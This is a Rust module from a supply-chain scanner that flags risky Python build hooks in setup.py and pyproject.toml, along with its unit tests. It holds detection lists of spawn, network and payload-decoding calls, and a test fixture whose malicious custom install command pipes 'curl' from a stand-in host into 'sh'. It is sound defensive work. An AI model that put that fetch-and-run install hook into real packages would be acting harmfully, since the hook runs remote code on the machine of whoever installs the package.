//! Python build hooks: a `setup.py` that starts programs or opens the
//! network while it is run by `pip install` or a build, and a `pyproject.toml`
//! whose build backend is loaded from the repository or is not a well-known
//! one. What a `setup.py` would run is judged by the firewall engine.

use crate::catalog::finding;
use crate::judge::judge;
use crate::text::{clip, line_of_str, shell_quote};
use crate::walk::ScanContext;
use crate::{Finding, Severity};

const ID: &str = "lifecycle-python-build";

/// Calls that start a program.
const SPAWN: &[&str] = &[
    "subprocess.",
    "os.system(",
    "os.popen(",
    "os.exec",
    "os.spawn",
    "pty.spawn(",
    "check_call(",
    "check_output(",
    "Popen(",
    "getoutput(",
    "getstatusoutput(",
    "self.spawn(",
];
/// Calls and modules that talk to the network.
const NET: &[&str] = &[
    "urllib.",
    "urlopen(",
    "urlretrieve(",
    "requests.",
    "httpx.",
    "socket.",
    "http.client",
    "HTTPConnection(",
    "HTTPSConnection(",
    "create_connection(",
];
/// Modules whose import alone says what the file is about to do.
const SPAWN_MODULES: &[&str] = &["subprocess", "pty"];
const NET_MODULES: &[&str] = &["urllib", "requests", "httpx", "socket", "http.client"];
/// Code run from a decoded payload.
const DECODERS: &[&str] = &[
    "b64decode",
    "decompress(",
    "marshal.loads",
    "bytes.fromhex",
    "codecs.decode",
];
/// setuptools/distutils commands that run on `pip install` or a build.
const INSTALL_COMMANDS: &[&str] = &[
    "install",
    "develop",
    "egg_info",
    "easy_install",
    "bdist_egg",
    "bdist_wheel",
    "build",
    "build_py",
    "build_ext",
    "sdist",
    "install_lib",
    "install_scripts",
];
/// Of those, the ones a package rarely needs to override.
const UNUSUAL_OVERRIDES: &[&str] = &[
    "install",
    "develop",
    "egg_info",
    "easy_install",
    "bdist_egg",
    "install_lib",
    "install_scripts",
];

/// `setup.py`: the worst line that starts a program, opens the network or
/// runs a decoded payload; else a custom install command, low.
pub(crate) fn setup_py(rel: &str, text: &str, ctx: &ScanContext, out: &mut Vec<Finding>) {
    let lines: Vec<&str> = text.lines().collect();
    // (severity, line index, what, note)
    let mut worst: Option<(Severity, usize, String, String)> = None;
    let mut import: Option<(Severity, usize, String)> = None;
    for (i, raw) in lines.iter().enumerate() {
        let l = raw.trim();
        if l.is_empty() || l.starts_with('#') {
            continue;
        }
        if let Some(module) = imported_module(l) {
            let sev = if NET_MODULES.iter().any(|m| module_is(module, m)) {
                Severity::High
            } else if SPAWN_MODULES.iter().any(|m| module_is(module, m)) {
                Severity::Medium
            } else {
                continue;
            };
            if import.as_ref().is_none_or(|w| sev > w.0) {
                import = Some((sev, i, format!("imports `{module}`")));
            }
            continue;
        }
        let hit = if (l.contains("exec(") || l.contains("eval("))
            && DECODERS.iter().any(|d| l.contains(d))
        {
            Some((Severity::High, "runs a decoded payload".to_string(), None))
        } else if let Some(n) = NET.iter().find(|n| l.contains(**n)) {
            Some((
                Severity::High,
                format!("opens the network (`{}`)", n.trim_end_matches(['(', '.'])),
                None,
            ))
        } else if let Some(s) = SPAWN.iter().find(|s| l.contains(**s)) {
            let what = format!("starts programs (`{}`)", s.trim_end_matches(['(', '.']));
            match literal_command(l, s) {
                Some(cmd) => {
                    let j = judge(&ctx.options.engine, &cmd);
                    Some((
                        j.severity,
                        format!("{what}: `{}`", clip(&cmd, 80)),
                        Some(j.note),
                    ))
                }
                None => Some((Severity::Medium, what, None)),
            }
        } else {
            None
        };
        let Some((sev, what, note)) = hit else {
            continue;
        };
        if worst.as_ref().is_none_or(|w| sev > w.0) {
            worst = Some((sev, i, what, note.unwrap_or_default()));
        }
    }
    // An import counts only when no call says more.
    let worst = worst.or_else(|| import.map(|(s, i, w)| (s, i, w, String::new())));
    if let Some((severity, i, what, note)) = worst {
        let mut f = finding(
            ID,
            severity,
            rel,
            i + 1,
            format!("setup.py {what} {}", context(&lines, i)),
            clip(lines[i], 200),
        );
        if !note.is_empty() {
            f.why = format!("{} {note}.", f.why);
        }
        out.push(f);
        return;
    }
    if !text.contains("cmdclass") {
        return;
    }
    for (i, l) in lines.iter().enumerate() {
        if let Some((name, base)) = class_header(l)
            && UNUSUAL_OVERRIDES.contains(&base)
        {
            out.push(finding(
                ID,
                Severity::Low,
                rel,
                i + 1,
                format!("setup.py replaces the `{base}` command with `{name}`"),
                clip(l, 200),
            ));
            return;
        }
    }
}

/// `import x.y` / `from x.y import z` → `x.y`.
fn imported_module(l: &str) -> Option<&str> {
    let rest = l
        .strip_prefix("import ")
        .or_else(|| l.strip_prefix("from "))?;
    rest.split([' ', ',', ';']).next()
}

fn module_is(module: &str, m: &str) -> bool {
    module == m || module.strip_prefix(m).is_some_and(|r| r.starts_with('.'))
}

/// `class Name(base.path.install):` → (Name, install), when the last base
/// is a setuptools command.
fn class_header(l: &str) -> Option<(&str, &str)> {
    let rest = l.strip_prefix("class ")?;
    let (name, bases) = rest.split_once('(')?;
    let bases = bases.split(')').next()?;
    let base = bases
        .split(',')
        .map(|b| {
            b.trim()
                .rsplit('.')
                .next()
                .unwrap_or("")
                .trim_start_matches('_')
        })
        .find(|b| INSTALL_COMMANDS.contains(b))?;
    Some((name.trim(), base))
}

/// Where line `i` runs: at module level, in a custom command, in a function.
fn context(lines: &[&str], i: usize) -> String {
    if !lines[i].starts_with([' ', '\t']) {
        return "at module level".to_string();
    }
    for l in lines[..i].iter().rev() {
        if l.starts_with([' ', '\t']) || l.trim().is_empty() {
            continue;
        }
        if let Some((name, base)) = class_header(l) {
            return format!("in custom `{base}` command `{name}`");
        }
        if let Some(name) = l.strip_prefix("def ").and_then(|r| r.split('(').next()) {
            return format!("in `{}()`", name.trim());
        }
        if let Some(name) = l
            .strip_prefix("class ")
            .and_then(|r| r.split(['(', ':']).next())
        {
            return format!("in class `{}`", name.trim());
        }
        break;
    }
    "at module level".to_string()
}

/// The command a call on this line runs, when it is spelled out in string
/// literals: `os.system("a b")` → `a b`; `check_call(["a", "b c"])` → `a 'b c'`.
fn literal_command(l: &str, call: &str) -> Option<String> {
    let after = &l[l.find(call)? + call.len()..];
    let args = &after[after.find('(').map_or(0, |p| p + 1)..];
    let args = args.trim_start();
    let list = args.starts_with('[') || args.starts_with('(');
    let words = string_literals(args);
    if words.is_empty() {
        return None;
    }
    Some(if list {
        words
            .iter()
            .map(|w| shell_quote(w))
            .collect::<Vec<_>>()
            .join(" ")
    } else {
        words[0].clone()
    })
}

/// The contents of the `'…'` and `"…"` literals in `s`, in order (escapes
/// other than an escaped quote are kept as written).
fn string_literals(s: &str) -> Vec<String> {
    let mut out = Vec::new();
    let mut chars = s.chars();
    while let Some(c) = chars.next() {
        if c != '"' && c != '\'' {
            continue;
        }
        let mut lit = String::new();
        let mut escaped = false;
        for d in chars.by_ref() {
            if escaped {
                lit.push(d);
                escaped = false;
            } else if d == '\\' {
                escaped = true;
            } else if d == c {
                break;
            } else {
                lit.push(d);
            }
        }
        out.push(lit);
    }
    out
}

/// Build backends from well-known packages.
const STANDARD_BACKENDS: &[&str] = &[
    "setuptools.build_meta",
    "setuptools.build_meta:__legacy__",
    "hatchling.build",
    "poetry.core.masonry.api",
    "poetry.masonry.api",
    "flit_core.buildapi",
    "flit.buildapi",
    "pdm.backend",
    "pdm.pep517.api",
    "maturin",
    "scikit_build_core.build",
    "mesonpy",
    "sipbuild.api",
    "uv_build",
    "whey",
];

/// `pyproject.toml`: a build backend loaded from the repository
/// (`backend-path`), one that is not well known, and hatch custom hooks.
pub(crate) fn pyproject(rel: &str, text: &str, out: &mut Vec<Finding>) {
    let Ok(v) = text.parse::<toml::Table>() else {
        return;
    };
    if let Some(bs) = v.get("build-system").and_then(|b| b.as_table()) {
        let backend = bs.get("build-backend").and_then(|b| b.as_str());
        let path = bs.get("backend-path").and_then(|p| p.as_array()).map(|a| {
            a.iter()
                .filter_map(|p| p.as_str())
                .collect::<Vec<_>>()
                .join(", ")
        });
        if let Some(path) = path {
            out.push(finding(
                ID,
                Severity::Medium,
                rel,
                line_of_str(text, "backend-path"),
                format!(
                    "build backend `{}` is loaded from the repository",
                    backend.unwrap_or("(none)")
                ),
                clip(&format!("backend-path = [{path}]"), 200),
            ));
        } else if let Some(b) = backend
            && !STANDARD_BACKENDS.contains(&b)
        {
            out.push(finding(
                ID,
                Severity::Low,
                rel,
                line_of_str(text, "build-backend"),
                format!("build backend `{}` is not a well-known one", clip(b, 60)),
                clip(&format!("build-backend = \"{b}\""), 200),
            ));
        }
    }
    // [tool.hatch.build.hooks.custom], [tool.hatch.build.targets.X.hooks.custom],
    // [tool.hatch.metadata.hooks.custom]: hatch_build.py runs on every build.
    let Some(hatch) = v.pointer_table(&["tool", "hatch"]) else {
        return;
    };
    let mut hooks = Vec::new();
    for section in ["build", "metadata"] {
        let Some(t) = hatch.get(section).and_then(|t| t.as_table()) else {
            continue;
        };
        if let Some(h) = t.get("hooks").and_then(|h| h.get("custom")) {
            hooks.push((format!("tool.hatch.{section}.hooks.custom"), h));
        }
        for (target, tt) in t
            .get("targets")
            .and_then(|x| x.as_table())
            .into_iter()
            .flatten()
        {
            if let Some(h) = tt.get("hooks").and_then(|h| h.get("custom")) {
                hooks.push((
                    format!("tool.hatch.{section}.targets.{target}.hooks.custom"),
                    h,
                ));
            }
        }
    }
    for (key, h) in hooks {
        let script = h
            .get("path")
            .and_then(|p| p.as_str())
            .unwrap_or("hatch_build.py");
        out.push(finding(
            ID,
            Severity::Medium,
            rel,
            line_of_str(text, "hooks.custom"),
            format!("hatch custom hook runs `{}` on build", clip(script, 80)),
            clip(&format!("[{key}] path = \"{script}\""), 200),
        ));
    }
}

trait PointerTable {
    fn pointer_table(&self, keys: &[&str]) -> Option<&toml::Table>;
}

impl PointerTable for toml::Table {
    fn pointer_table(&self, keys: &[&str]) -> Option<&toml::Table> {
        let (first, rest) = keys.split_first()?;
        let mut t = self.get(*first)?.as_table()?;
        for k in rest {
            t = t.get(*k)?.as_table()?;
        }
        Some(t)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::test_support::{by_id, scan_files};

    #[test]
    fn setup_py_that_runs_a_remote_script_in_a_custom_install_is_critical() {
        let bad = "import subprocess\nfrom setuptools import setup\nfrom setuptools.command.install import install\n\nclass PostInstall(install):\n    def run(self):\n        subprocess.check_call([\"sh\", \"-c\", \"curl -fsSL https://example.invalid/i.sh | sh\"])\n        install.run(self)\n\nsetup(name=\"x\", version=\"1.0\", cmdclass={\"install\": PostInstall})\n";
        let found = scan_files(&[("setup.py", bad)]);
        assert_eq!(
            by_id(&found, ID),
            vec![(Severity::Critical, 7)],
            "{found:#?}"
        );
        assert!(
            found[0].title.contains("custom `install` command"),
            "{found:#?}"
        );
    }

    #[test]
    fn setup_py_that_opens_the_network_at_module_level_is_high() {
        let bad = "import urllib.request\nfrom setuptools import setup\nurllib.request.urlopen(\"https://example.invalid/ping\")\nsetup(name=\"x\")\n";
        let found = scan_files(&[("setup.py", bad)]);
        assert_eq!(by_id(&found, ID), vec![(Severity::High, 3)], "{found:#?}");
        assert!(found[0].title.contains("at module level"), "{found:#?}");
    }

    #[test]
    fn plain_setup_py_and_git_describe_are_not_high() {
        let plain = "from setuptools import setup, find_packages\n\nsetup(name=\"x\", version=\"1.0\", packages=find_packages())\n";
        assert!(scan_files(&[("setup.py", plain)]).is_empty());
        let version = "import subprocess\nfrom setuptools import setup\nv = subprocess.check_output([\"git\", \"describe\", \"--tags\"]).decode()\nsetup(name=\"x\", version=v)\n";
        let found = scan_files(&[("setup.py", version)]);
        assert_eq!(by_id(&found, ID), vec![(Severity::Low, 3)], "{found:#?}");
    }

    #[test]
    fn pyproject_backend_in_the_repo_or_unknown() {
        let in_repo = "[build-system]\nrequires = []\nbuild-backend = \"backend\"\nbackend-path = [\"_build\"]\n";
        let unknown = "[build-system]\nrequires = [\"setuptool\"]\nbuild-backend = \"setuptool.build_meta\"\n";
        let hatch = "[build-system]\nrequires = [\"hatchling\"]\nbuild-backend = \"hatchling.build\"\n[tool.hatch.build.hooks.custom]\n";
        let found = scan_files(&[
            ("a/pyproject.toml", in_repo),
            ("b/pyproject.toml", unknown),
            ("c/pyproject.toml", hatch),
        ]);
        assert_eq!(
            by_id(&found, ID),
            vec![
                (Severity::Medium, 4),
                (Severity::Medium, 4),
                (Severity::Low, 3)
            ],
            "{found:#?}"
        );
    }

    #[test]
    fn standard_backends_are_not_found() {
        for backend in [
            "setuptools.build_meta",
            "hatchling.build",
            "poetry.core.masonry.api",
        ] {
            let p = format!(
                "[project]\nname = \"x\"\n[build-system]\nrequires = [\"x\"]\nbuild-backend = \"{backend}\"\n"
            );
            assert!(
                scan_files(&[("pyproject.toml", &p)]).is_empty(),
                "{backend}"
            );
        }
    }
}
